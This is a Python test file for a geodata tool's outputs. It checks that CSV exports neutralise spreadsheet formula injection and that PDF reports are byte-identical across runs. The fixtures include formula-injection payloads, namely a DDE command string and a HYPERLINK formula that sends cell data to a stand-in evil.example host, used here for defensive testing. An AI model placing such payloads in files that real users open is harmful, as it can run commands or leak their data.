"""Security of the outputs: formula injection in CSV files, script injection in the pages,
killed runs and stale files, byte-identical PDFs."""

from __future__ import annotations

import csv
import json
import re
import subprocess
import time
from datetime import UTC, datetime
from pathlib import Path

import pytest

from geomap.cli import main
from geomap.io import (
    FORMULA_START,
    read_csv_rows,
    spreadsheet_cell,
    spreadsheet_value,
    write_csv,
)

from .conftest import CORPUS

# -- helpers -------------------------------------------------------------------------------------

FORMULA_DOC = "=cmd|' calc'!A1"
FORMULA_DOC2 = "@SUM(1+1)"
FORMULA_OUTLET = '=HYPERLINK("http://evil.example")'
FORMULA_SENTENCE = '=HYPERLINK("http://evil.example/?x="&A1,"Clashes") Clashes erupted in Aleppo.'


def formula_corpus(folder: Path) -> Path:
    """Two seed articles whose file names, manifest fields and text start like formulas."""
    folder.mkdir(parents=True, exist_ok=True)
    seeds = sorted(CORPUS.glob("*.txt"))
    (folder / f"{FORMULA_DOC}.txt").write_text(seeds[0].read_text(encoding="utf-8"), "utf-8")
    (folder / f"{FORMULA_DOC2}.txt").write_text(
        seeds[3].read_text(encoding="utf-8")
        + f"\n{FORMULA_SENTENCE}\n-2+3 people were killed in Homs on Friday.\n",
        encoding="utf-8",
    )
    with open(folder / "manifest.csv", "w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["file", "published", "dateline", "outlet", "wire"])
        w.writerow([f"{FORMULA_DOC}.txt", "2012-07-26", "+ALEPPO", FORMULA_OUTLET, "@AFP"])
        w.writerow([f"{FORMULA_DOC2}.txt", "2012-07-21", "-DAMASCUS", "-Reuters", "+x"])
    return folder


# -- 7. formula injection in CSV -----------------------------------------------------------------


def test_spreadsheet_cell_neutralises_strings_and_keeps_numbers() -> None:
    for bad in ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\tx", "\rx", "-", "=", "+cmd"):
        assert spreadsheet_cell(bad) == "'" + bad
        assert spreadsheet_value(spreadsheet_cell(bad)) == bad
    for number in ("-0.50000", "-3", "+4.5", "-1e-3", -0.5, -3, 0.0):
        assert spreadsheet_cell(number) == number
    for fine in ("Aleppo", "", "a=b", "it's", "'quoted'"):
        assert spreadsheet_cell(fine) == fine
    # a value that already starts with an apostrophe before a trigger reads back exactly
    for tricky in ("'=1+1", "''-x"):
        assert spreadsheet_value(spreadsheet_cell(tricky)) == tricky


def test_write_csv_neutralises_string_cells_only(tmp_path: Path) -> None:
    path = tmp_path / "t.csv"
    write_csv(path, ("a", "lon", "lat"), [{"a": "=2+5", "lon": -0.5, "lat": "-0.50000"}])
    assert path.read_text(encoding="utf-8").splitlines()[1] == "'=2+5,-0.5,-0.50000"
    assert read_csv_rows(path) == [{"a": "=2+5", "lon": "-0.5", "lat": "-0.50000"}]


def _assert_no_formula_cells(path: Path) -> int:
    n = 0
    with open(path, encoding="utf-8", newline="") as fh:
        for row in csv.reader(fh):
            for cell in row:
                n += 1
                if cell.startswith(FORMULA_START):
                    float(cell)  # only a plain number may start with + or -
    return n


def test_every_csv_the_build_writes_is_safe_for_spreadsheets(tmp_path: Path) -> None:
    corpus = formula_corpus(tmp_path / "corpus")
    out = tmp_path / "out"
    assert main(["build", str(corpus), "--out", str(out), "--no-png"]) == 0
    csvs = sorted(out.rglob("*.csv"))
    names = {p.relative_to(out).as_posix() for p in csvs}
    assert {
        "mentions.csv",
        "documents.csv",
        "check/check.csv",
        "report/data/mentions.csv",
        "report/data/documents.csv",
    } <= names
    for path in csvs:
        assert _assert_no_formula_cells(path) > 0
    text = (out / "documents.csv").read_text(encoding="utf-8")
    assert "'=cmd|' calc'!A1" in text and "'@SUM(1+1)" in text and "'-Reuters" in text
    assert "'+ALEPPO" in text and "'@AFP" in text and "'=HYPERLINK" in text
    check = (out / "check" / "check.csv").read_text(encoding="utf-8")
    assert "\"'=HYPERLINK(" in check
    # read back by geomap: the exact values
    docs = {r["doc"]: r for r in read_csv_rows(out / "documents.csv")}
    assert set(docs) == {FORMULA_DOC, FORMULA_DOC2}
    assert docs[FORMULA_DOC]["outlet"] == FORMULA_OUTLET
    # GeoJSON and GeoPackage keep the values exactly
    fc = json.loads((out / "events.geojson").read_text(encoding="utf-8"))
    sources = [s for f in fc["features"] for s in f["properties"]["sources"]]
    assert {s["doc"] for s in sources} == {FORMULA_DOC, FORMULA_DOC2}
    assert FORMULA_OUTLET in {s["outlet"] for s in sources}
    pyogrio = pytest.importorskip("pyogrio")
    mentions = pyogrio.read_dataframe(out / "geomap.gpkg", layer="mentions")
    assert set(mentions["doc"]) == {FORMULA_DOC, FORMULA_DOC2}
    # the report found its documents through the neutralised documents.csv
    assert "2 articles" in (out / "report" / "report.html").read_text(encoding="utf-8")


# -- 11. report.pdf is byte-identical across runs ------------------------------------------------


def _xref_is_valid(pdf: bytes) -> bool:
    """Every object the cross-reference table lists starts where the table says."""
    start = int(re.search(rb"startxref\s+(\d+)\s+%%EOF\s*$", pdf).group(1))  # type: ignore[union-attr]
    head = re.compile(rb"xref\s+0 (\d+)\s+").match(pdf, start)
    assert head is not None
    pos = head.end()
    for i in range(int(head.group(1))):
        entry = pdf[pos : pos + 20]
        pos += 20
        if entry[17:18] == b"n" and not pdf[int(entry[:10]) :].startswith(b"%d 0 obj" % i):
            return False
    return True


def test_report_pdf_is_byte_identical_across_runs_and_folders(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("SOURCE_DATE_EPOCH", raising=False)
    first, second = tmp_path / "one" / "out", tmp_path / "two" / "elsewhere"
    assert main(["build", str(CORPUS), "--out", str(first)]) == 0
    time.sleep(1.1)  # a PDF date to the second would differ now
    assert main(["build", str(CORPUS), "--out", str(second)]) == 0
    a = (first / "report" / "report.pdf").read_bytes()
    b = (second / "report" / "report.pdf").read_bytes()
    assert a == b
    assert b"/CreationDate (D:20160930000000" in a  # the last day of the events
    assert str(tmp_path).encode() not in a  # links are relative, no build path inside
    assert b"/URI (check.html)" in a
    assert _xref_is_valid(a)
    info = subprocess.run(["pdfinfo", str(first / "report" / "report.pdf")], capture_output=True)
    assert info.returncode == 0 and b"Pages:" in info.stdout and not info.stderr


def test_source_date_epoch_sets_the_pdf_dates(monkeypatch: pytest.MonkeyPatch) -> None:
    from geomap.browser import deterministic_pdf, source_date

    monkeypatch.setenv("SOURCE_DATE_EPOCH", "946684800")
    when = source_date(datetime(2016, 9, 30, tzinfo=UTC))
    pdf = b"%PDF-1.4\n1 0 obj\n<</CreationDate (D:20261201162754+00'00')>>\nendobj\n"
    assert deterministic_pdf(pdf, when) == pdf.replace(b"20261201162754", b"20000101000000")
